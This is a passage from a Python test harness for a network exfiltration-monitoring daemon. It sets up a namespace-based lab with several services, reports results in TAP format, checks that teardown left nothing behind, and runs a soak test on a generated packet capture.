        print(f"ok {counter['n']} {name}", flush=True)
    except Exception:  # noqa: BLE001
        counter["failed"] += 1
        print(f"not ok {counter['n']} {name}", flush=True)
        for line in traceback.format_exc().splitlines():
            print("# " + line, flush=True)
        for line in d.log_text().splitlines()[-10:]:
            print("# daemon: " + line, flush=True)
    finally:
        if commander is not None and commander.poll() is None:
            commander.kill()
            commander.wait()
        d.stop()
        shutil.rmtree(work, ignore_errors=True)


def capture_addresses(path, limit=500):
    """IPv4 addresses of the first packets of a pcap file (Ethernet frames)."""
    found = set()
    with open(path, "rb") as f:
        header = f.read(24)
        endian = "<" if header[:4] in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">"
        for _ in range(limit):
            record = f.read(16)
            if len(record) < 16:
                break
            caplen = struct.unpack(endian + "IIII", record)[2]
            frame = f.read(caplen)
            if len(frame) >= 34 and frame[12:14] == b"\x08\x00":
                found.add(socket.inet_ntoa(frame[26:30]))
                found.add(socket.inet_ntoa(frame[30:34]))
    return sorted(found) or ["192.0.2.1"]


def final_counts(log):
    """The daemon's last 'final counts' line: received, sent, dropped."""
    for line in reversed(log.splitlines()):
        if "final counts:" in line:
            fields = dict(part.strip().split(" ", 1)[::-1]
                          for part in line.split("final counts:")[1].split(";")[0].split(","))
            return {"rx": int(fields["received"]), "tx": int(fields["sent"]),
                    "dropped": int(fields["dropped"])}
    raise AssertionError("the daemon logged no final counts")


def start_lab(ctx, exfiltap, ctl):
    """Everything is recorded in ctx as soon as it exists, so stop_lab() removes what a
    failure or an interrupt left half started."""
    ctx.services = []
    ctx.lab = labmod.Lab(tag=LAB_TAG, full=True, names=LAB_NAMES)
    ctx.lab.up()
    ctx.daemon = daemonmod.Daemon(exfiltap, ctl, ctx.workdir)
    ctx.daemon.alerts = os.path.join(ctx.workdir, "log", "alerts.json")
    os.makedirs(os.path.dirname(ctx.daemon.alerts), exist_ok=True)
    ctx.daemon.write_config(lab_config(ctx.daemon, ctx.lab))
    ctx.daemon.start()
    ctx.services += servers.start_web(ctx.lab, ctx.workdir)
    ctx.services.append(servers.start_ftp(ctx.lab, ctx.workdir))
    ctx.smtp = servers.start_smtp(ctx.lab, ctx.workdir)
    ctx.services.append(ctx.smtp)
    ctx.smb = servers.start_smb(ctx.lab, ctx.workdir)
    ctx.services.append(ctx.smb)
    ctx.ssh = servers.start_ssh(ctx.lab, ctx.workdir)
    ctx.services.append(ctx.ssh)
    ctx.services.append(servers.start_dns(ctx.lab, ctx.workdir))


def workdir_prefix():
    """Work folders of this lab (by name): scripts/lab down finds what a killed run left."""
    return f"exft-lab-{LAB_TAG}-"


def stop_lab(ctx):
    for service in getattr(ctx, "services", []):
        service.stop()
    if getattr(ctx, "daemon", None) is not None:
        ctx.daemon.stop()
    if getattr(ctx, "lab", None) is not None:
        ctx.lab.close()


# EXFILTAP_LAB_NAME=x gives a second lab of its own beside the first (namespaces inside-x,
# ..., links xtilabx, xtolabx); unset, the names are the plain ones.
LAB_SUFFIX = os.environ.get("EXFILTAP_LAB_NAME", "")
if not re.fullmatch(r"[a-z0-9]{0,8}", LAB_SUFFIX):
    raise SystemExit("EXFILTAP_LAB_NAME: up to 8 lower-case letters or digits")
LAB_TAG = "lab" + LAB_SUFFIX
_SFX = f"-{LAB_SUFFIX}" if LAB_SUFFIX else ""
LAB_NAMES = {"inside": "inside" + _SFX, "outside": "outside" + _SFX,
             "inside2": "inside2" + _SFX, "switch": "exft-switch" + _SFX}
LAB_LINKS = (f"xti{LAB_TAG}", f"xto{LAB_TAG}")


def run_tests(tests, ctx, counter):
    for test in tests:
        counter["n"] += 1
        started = time.time()
        try:
            test(ctx)
            counter["passed"] += 1
            print(f"ok {counter['n']} {test.__name__} ({time.time() - started:.1f} s)", flush=True)
        except Exception:  # noqa: BLE001 - every failure is reported as TAP
            counter["failed"] += 1
            print(f"not ok {counter['n']} {test.__name__}", flush=True)
            for line in traceback.format_exc().splitlines():
                print("# " + line, flush=True)
            for line in ctx.daemon.log_text().splitlines()[-10:]:
                print("# daemon: " + line, flush=True)


def processes_mentioning(text):
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmdline = f.read().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if text in cmdline:
            found.append(f"{pid}: {cmdline[:120]}")
    return found


def teardown_check(ctx, counter):
    """The lab left no namespace, veth or process behind."""
    counter["n"] += 1
    names = subprocess.run(["ip", "netns", "list"], capture_output=True, text=True).stdout.split()
    spaces = [ns for ns in LAB_NAMES.values() if ns in names]
    links = [dev for dev in LAB_LINKS
             if subprocess.run(["ip", "link", "show", dev], capture_output=True).returncode == 0]
    procs = processes_mentioning(ctx.workdir)
    for pid in servers.STARTED:
        try:
            os.kill(pid, 0)
            procs.append(f"service {pid}")
        except ProcessLookupError:
            pass
    if getattr(ctx, "daemon", None) is not None and ctx.daemon.proc is not None:
        procs.append("exfiltap")
    if spaces or links or procs:
        counter["failed"] += 1
        print(f"not ok {counter['n']} teardown_leaves_nothing", flush=True)
        print(f"# left: namespaces {spaces}, links {links}, processes {procs}", flush=True)
    else:
        counter["passed"] += 1
        print(f"ok {counter['n']} teardown_leaves_nothing", flush=True)


def main(argv):
    exfiltap, ctl = argv[1], argv[2]
    only = argv[3] if len(argv) > 3 else None
    counter = {"n": 0, "passed": 0, "failed": 0}
    tests = [t for t in SCENARIOS + FAULTS if only is None or only in t.__name__]
    run_soak = only is None or only.startswith("soak")
    if only is not None and (not only or (not tests and not run_soak)):
        print(f"not ok 1 no test matches --only {only!r} (names: "
              f"{', '.join(t.__name__ for t in SCENARIOS + FAULTS)}, soak)", flush=True)
        print("0 passed, 1 failed", flush=True)
        return 1
    ctx = Ctx()
    ctx.workdir = tempfile.mkdtemp(prefix=workdir_prefix())
    try:
        if tests:
            start_lab(ctx, exfiltap, ctl)
            run_tests(tests, ctx, counter)
    except Exception:  # noqa: BLE001
        for line in traceback.format_exc().splitlines():
            print("# " + line, flush=True)
        print("not ok - the lab did not start", flush=True)
        counter["failed"] += 1
    finally:
        stop_lab(ctx)
        if os.environ.get("EXFILTAP_LAB_KEEP") != "1":
            shutil.rmtree(ctx.workdir, ignore_errors=True)
    if tests:
        teardown_check(ctx, counter)
    if run_soak:
        seconds = float(os.environ.get("EXFILTAP_SOAK_SECONDS", "60"))
        capture = os.environ.get("EXFILTAP_SOAK_PCAP")
        made = None
        if not capture:
            gen = os.path.join(os.path.dirname(os.path.dirname(exfiltap)), "tests", "gen",
                               "exfiltap-gen")
            made = tempfile.mkdtemp(prefix="exft-soak-cap-")
            capture = os.path.join(made, "mixed.pcap")
            subprocess.run([gen, "--scenario", "large", "--packets", "8000", "--out", capture],
                           check=True, capture_output=True)
        try:
            soak(exfiltap, ctl, capture, seconds, counter)
        finally:
            if made:
                shutil.rmtree(made, ignore_errors=True)
    print(f"{counter['passed']} passed, {counter['failed']} failed", flush=True)
    return 1 if counter["failed"] else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
